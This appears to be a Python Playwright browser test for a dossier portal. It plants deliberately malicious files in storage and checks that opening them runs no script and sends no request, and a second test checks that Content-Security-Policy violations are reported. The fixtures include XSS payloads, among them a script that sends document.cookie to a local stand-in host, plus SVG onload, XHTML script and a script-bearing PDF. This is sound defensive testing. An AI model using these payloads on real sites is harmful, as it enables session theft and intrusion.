"""An officer at a real browser among files made to hurt: nothing opens, nothing runs, nobody is asked (T11)."""

import io
from uuid import uuid4

import pytest
from PIL import Image
from playwright.sync_api import Dialog, Page
from sqlalchemy import select

from portal.core import blobs, clock
from portal.core.db import transaction
from portal.dossiers.models import Dossier, DossierFile
from portal.web.headers import policy
from tests.browser.conftest import Town
from tests.browser.test_every_page import Day
from tests.support import files

pytestmark = pytest.mark.browser

BEACON = b"<html><script>alert(document.domain);fetch('http://127.0.0.1:9/'+document.cookie)</script></html>"


def _picture_that_says(words: bytes) -> bytes:
    target = io.BytesIO()
    with Image.open(io.BytesIO(files.picture("JPEG"))) as drawn:
        drawn.save(target, "JPEG", comment=words)
    return target.getvalue()


# Even what no upload lets through: should one ever lie there, nothing of it may run
STORED = {
    "trang.html": (BEACON, "text/html"),
    "hinh.svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/svg+xml"),
    "du-lieu.xml": (b'<x xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></x>', "text/xml"),
    "chu.txt": (BEACON, "text/plain"),
    "don.pdf": (files.pdf_with_script(), "application/pdf"),
    "anh.jpg": (_picture_that_says(BEACON), "image/jpeg"),
}


def _stored(code: str) -> dict[str, str]:
    """Puts the files into a dossier, past every inspection; where an officer finds each."""
    found = {}
    with transaction() as session:
        dossier = session.scalars(select(Dossier).where(Dossier.code == code)).one()
        for position, (name, (content, media_type)) in enumerate(STORED.items()):
            kept = blobs.store().put(content)
            row = DossierFile(
                id=uuid4(),
                dossier_id=dossier.id,
                component="old_copy",
                question="old_copy_file",
                position=position,
                name=name,
                media_type=media_type,
                sha256=kept.sha256,
                size=kept.size,
                uploaded_at=dossier.submitted_at or clock.now(),
            )
            session.add(row)
            found[name] = f"/office/dossiers/{dossier.id}/files/{row.id}"
    return found


def _watch(page: Page) -> list[str]:
    seen: list[str] = []

    def closed(dialog: Dialog) -> None:
        seen.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    page.on("dialog", closed)
    page.on("request", lambda asked: seen.append(asked.url) if ":9/" in asked.url else None)
    return seen


def test_an_officer_opens_every_stored_file_and_nothing_happens(town: Town) -> None:
    places = _stored(Day(town.app).handed_in())
    window = town.person("receptionist")
    seen = _watch(window.page)
    for name, place in places.items():
        with window.page.expect_download() as going:
            window.page.evaluate("place => { location.href = place + '?inline=1' }", place)
        assert going.value.suggested_filename == name
        window.open(f"{place}/view")
    assert (seen, window.faults) == ([], [])


def test_a_breach_of_the_policy_does_not_go_unseen(town: Town) -> None:
    """What the walk over every page relies on."""
    window = town.stranger()
    body = "<html lang=vi><title>x</title><h1>x</h1><script>1</script><p style='color:red'>x</p></html>"
    headers = {"Content-Security-Policy": policy(), "Content-Type": "text/html"}
    window.page.route("**/guide", lambda route: route.fulfill(body=body, headers=headers))
    window.page.goto("/guide")
    assert any("script-src" in fault for fault in window.faults), window.faults
    assert any("style-src" in fault for fault in window.faults), window.faults
